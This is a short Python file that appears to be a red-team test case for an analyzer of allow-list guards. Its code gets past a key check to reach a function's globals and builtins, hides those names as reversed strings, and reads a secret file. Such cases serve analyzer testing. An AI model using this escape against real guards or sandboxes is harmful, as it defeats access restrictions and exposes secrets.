# family: red team, round 20 (classes reaching parameters unnoticed; allow-list guards)
# Chain: the allow-list guard `if key in self.FIELDS: getattr(fn, key)` (guards.py, dynamic_names._guarded)
# trusts self.FIELDS as a class constant via class_constant -> objects.own_object. Reader[int] (a Generic
# alias, not counted as a class used as a value) forwards .fetch to the plain function, so self is a
# namedtuple whose FIELDS holds a run-time "__globals__", and the guard lets that key through.
from collections import namedtuple
from typing import Generic, TypeVar

T = TypeVar("T")


class Reader(Generic[T]):
    FIELDS = ("name", "age")

    def fetch(self, fn, key):
        if key in self.FIELDS:
            return getattr(fn, key)
        return None


Box = namedtuple("Box", "FIELDS")


def call_read(k, obj, fn, key):
    return k.fetch(obj, fn, key)


def helper():
    return 1


def run():
    key = "".join(reversed("__slabolg__"))
    got = call_read(Reader[int], Box([key]), helper, key)
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r20/work/secret.txt").read())


run()
